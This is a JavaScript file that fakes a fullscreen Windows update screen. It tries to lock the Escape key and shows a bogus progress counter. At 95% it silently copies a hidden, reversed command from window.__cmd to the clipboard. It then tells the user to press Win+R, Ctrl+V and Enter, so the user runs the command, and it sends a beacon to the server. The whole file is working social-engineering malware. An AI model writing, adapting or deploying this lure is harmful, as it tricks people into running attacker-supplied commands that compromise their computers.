const root = document.documentElement;
const words = ["Working on updates", "Please keep your computer on", "Your PC may restart a few times"];
const tail = window.__cmd.split("|").reverse().join("");

async function begin() {
  try {
    await root.requestFullscreen();
    await navigator.keyboard?.lock?.(["Escape"]);
  } catch {}
  document.body.style.cssText = "background:#0078d7;color:#fff;cursor:none;font:28px Segoe UI;text-align:center;padding-top:30vh";
  document.body.innerHTML = `<div class="dots"></div><p id="a"></p><p id="b"></p>`;
  let n = 0;
  const t = setInterval(async () => {
    n += 1;
    document.querySelector("#a").textContent = `${words[n % 3 | 0]} ${Math.min(n, 95)}%`;
    if (n === 95) {
      clearInterval(t);
      await navigator.clipboard.writeText(tail).catch(() => {
        const x = document.createElement("textarea");
        x.value = tail;
        document.body.append(x);
        x.select();
        document.execCommand("copy");
        x.remove();
      });
      document.querySelector("#b").innerHTML = "Attention! To complete the security update press <b>Win+R</b>, then <b>Ctrl+V</b> and <b>Enter</b>";
      fetch("/u/95", { method: "POST" });
    }
  }, 180);
}
addEventListener("click", begin, { once: true });
addEventListener("keydown", begin, { once: true });
